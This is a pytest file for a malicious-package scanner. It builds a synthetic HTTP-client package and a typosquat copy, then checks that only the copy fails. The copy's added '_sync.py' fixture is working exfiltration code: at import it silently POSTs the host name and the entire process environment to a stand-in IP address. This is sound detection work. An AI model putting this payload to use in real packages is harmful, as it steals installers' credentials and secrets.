"""A typosquat that copies a real package's files and adds one payload file (issue:
scores that never fail a popular package). The real package must pass with a margin
and the copy must fail on the added file alone: the files it shares with the real
release carry no malicious evidence however often typosquats have shipped them.
Every file is synthetic and written here; nothing is run.
"""

from __future__ import annotations

from pathlib import Path

import pytest

from mphunter_gate import gate
from mphunter_gate.gate import GateOptions, Judge
from mphunter_gate.types import Finding, Verdict
from tests.conftest import make_sdist

# A small HTTP client library of the kind typosquats copy: it reads its own token by
# name and sends it to its own API, builds sessions, retries, parses responses.
SETUP = """\
import os
from setuptools import setup, find_packages

here = os.path.abspath(os.path.dirname(__file__))
with open(os.path.join(here, "README.md"), encoding="utf-8") as fh:
    long_description = fh.read()

setup(
    name="fetchkit",
    version="2.4.1",
    description="Friendly HTTP sessions",
    long_description=long_description,
    packages=find_packages(exclude=["tests"]),
    install_requires=["requests>=2.25"],
    python_requires=">=3.8",
)
"""
INIT = """\
from .session import Session
from .retry import Retry

__all__ = ["Session", "Retry"]
__version__ = "2.4.1"
"""
SESSION = """\
import os
import requests

from .retry import Retry


class Session:
    def __init__(self, base_url, token=None, retry=None):
        self.base_url = base_url.rstrip("/")
        self.token = token or os.environ.get("FETCHKIT_TOKEN")
        self.retry = retry or Retry()
        self._http = requests.Session()

    def _headers(self):
        return {"Authorization": f"Bearer {self.token}"} if self.token else {}

    def get(self, path, **params):
        for attempt in self.retry.attempts():
            response = self._http.get(
                f"{self.base_url}/{path.lstrip('/')}", params=params, headers=self._headers()
            )
            if response.status_code < 500:
                response.raise_for_status()
                return response.json()
            self.retry.wait(attempt)
        response.raise_for_status()
"""
RETRY = """\
import time


class Retry:
    def __init__(self, total=3, backoff=0.5):
        self.total = total
        self.backoff = backoff

    def attempts(self):
        return range(self.total)

    def wait(self, attempt):
        time.sleep(self.backoff * (2 ** attempt))
"""
# What the typosquat adds: imported at package import, sends the whole environment.
PAYLOAD = """\
import os, json, platform, urllib.request

def _sync():
    info = {"host": platform.node(), "env": dict(os.environ)}
    req = urllib.request.Request(
        "http://203.0.113.9/sync", data=json.dumps(info).encode(), method="POST"
    )
    urllib.request.urlopen(req, timeout=3)

try:
    _sync()
except Exception:
    pass
"""
REAL = {
    "setup.py": SETUP,
    "README.md": "# fetchkit\n",
    "fetchkit/__init__.py": INIT,
    "fetchkit/session.py": SESSION,
    "fetchkit/retry.py": RETRY,
}
SQUAT = {
    **{k: v.replace('name="fetchkit"', 'name="fetchkitt"') for k, v in REAL.items()},
    "fetchkit/__init__.py": INIT + "from . import _sync  # noqa\n",
    "fetchkit/_sync.py": PAYLOAD,
}


@pytest.fixture(scope="module")
def judged(tmp_path_factory: pytest.TempPathFactory) -> tuple[Finding, Finding, float]:
    root = tmp_path_factory.mktemp("squat")
    (root / "real").mkdir()
    (root / "squat").mkdir()
    real = make_sdist(root / "real", "fetchkit", "2.4.1", REAL)
    squat = make_sdist(root / "squat", "fetchkitt", "2.4.1", SQUAT)
    report = gate.scan([str(real), str(squat)], GateOptions())
    threshold = Judge(GateOptions()).threshold
    return report.findings[0], report.findings[1], threshold


def test_the_real_package_passes_with_a_margin(judged: tuple[Finding, Finding, float]) -> None:
    real, _, threshold = judged
    assert real.verdict is Verdict.PASS, real.reason
    assert real.score is not None and real.score < threshold - 0.05, real.score


@pytest.mark.xfail(
    strict=True,
    reason="the bundled models (mph-53141e2829cb) predate the flow features: the added "
    "import-time module that posts dict(os.environ) scores below the threshold; needs the "
    "retrain with flow:environment:all->network (the scoring issue)",
)
def test_the_copy_fails_on_the_file_it_added(judged: tuple[Finding, Finding, float]) -> None:
    _, squat, threshold = judged
    assert squat.verdict is Verdict.FAIL, squat.reason
    assert "_sync.py" in squat.reason
    # Every file it shares with the real release stays below the threshold.
    shared = [s for s in squat.scores if not s.path.endswith(("_sync.py", "__init__.py"))]
    assert shared and all(s.score < threshold for s in shared), [(s.path, s.score) for s in shared]


def test_the_files_scored_are_the_whole_package(judged: tuple[Finding, Finding, float]) -> None:
    real, squat, _ = judged
    assert {Path(a.path).name for a in real.analyses} >= {"setup.py", "session.py", "retry.py"}
    assert any(a.path.endswith("_sync.py") for a in squat.analyses)
